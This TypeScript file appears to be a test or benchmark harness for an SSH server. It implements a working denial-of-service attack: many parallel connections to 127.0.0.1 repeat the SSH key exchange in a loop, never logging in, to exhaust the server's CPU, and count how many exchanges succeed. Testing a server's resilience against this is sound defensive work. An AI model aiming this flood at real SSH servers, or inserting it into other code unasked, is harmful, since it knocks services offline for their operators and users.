import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { cheapInit, keysOfExchange, seal, unseal, type AttackedMethod, type Direction } from './cheap-exchange.ts';
import { string } from './ssh-strings.ts';

/** What an attack came to. */
export interface AttackOutcome {
  exchanges: number;
  connections: number;
}

/** Where to, from which address, with what. */
export interface Attack {
  readonly port: number;
  readonly localAddress: string;
  readonly method: AttackedMethod;
  readonly connections: number;
  readonly seconds: number;
}

const banner = 'SSH-2.0-Attack';
const [disconnect, kexInit, newKeys, kexDhInit, kexDhReply] = [1, 20, 21, 30, 31];

/** Exchanges keys without ever logging in: again on each connection for as long as that goes, then on another one. */
export async function attack(options: Attack): Promise<AttackOutcome> {
  const outcome: AttackOutcome = { exchanges: 0, connections: 0 };
  const end = performance.now() + options.seconds * 1_000;
  const attacker = async (): Promise<void> => {
    while (performance.now() < end) {
      outcome.connections += 1;
      await exchangeUntilCut(options, end, () => (outcome.exchanges += 1));
    }
  };
  await Promise.all(Array.from({ length: options.connections }, attacker));
  return outcome;
}

async function exchangeUntilCut(
  { port, localAddress, method }: Attack,
  end: number,
  exchanged: () => void,
): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1', localAddress, noDelay: true });
  socket.on('error', () => {});
  const timer = setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()));
  followExchanges(socket, method, exchanged);
  await once(socket, 'close').catch(() => {});
  clearTimeout(timer);
}

function followExchanges(socket: Socket, method: AttackedMethod, exchanged: () => void): void {
  let received: Buffer = Buffer.alloc(0);
  let theirBanner = '';
  let theirInit: Buffer | undefined;
  let sessionId: Buffer | undefined;
  let [out, into, nextInto]: (Direction | undefined)[] = [];
  let ours = cheapInit(method);
  const send = (payload: Buffer) => void (socket.writable && socket.write(seal(payload, out)));
  const begin = (): void => {
    ours = cheapInit(method);
    send(ours.kexInit);
  };
  const hear = (payload: Buffer): void => {
    if (payload[0] === disconnect) socket.destroy();
    if (payload[0] === kexInit) {
      theirInit = Buffer.from(payload);
      send(Buffer.concat([Buffer.of(kexDhInit), string(ours.publicKey)]));
    } else if (payload[0] === kexDhReply && theirInit !== undefined) {
      const kexInits = [ours.kexInit, theirInit] as const;
      const banners = [banner, theirBanner] as const;
      const keys = keysOfExchange({ method, banners, kexInits, reply: payload, sessionId });
      sessionId = keys.sessionId;
      send(Buffer.of(newKeys));
      out = keys.out;
      nextInto = keys.in;
      exchanged();
    } else if (payload[0] === newKeys) {
      into = nextInto;
      begin();
    }
  };
  socket.write(`${banner}\r\n`);
  socket.on('data', (chunk: Buffer) => {
    received = Buffer.concat([received, chunk]);
    if (theirBanner === '') {
      const lineEnd = received.indexOf('\r\n');
      if (lineEnd === -1) return;
      theirBanner = received.toString('latin1', 0, lineEnd);
      received = received.subarray(lineEnd + 2);
      if (!theirBanner.startsWith('SSH-')) {
        socket.destroy();
        return;
      }
      begin();
    }
    for (let packet = unseal(received, into); packet !== undefined; packet = unseal(received, into)) {
      received = packet.rest;
      hear(packet.payload);
    }
  });
}
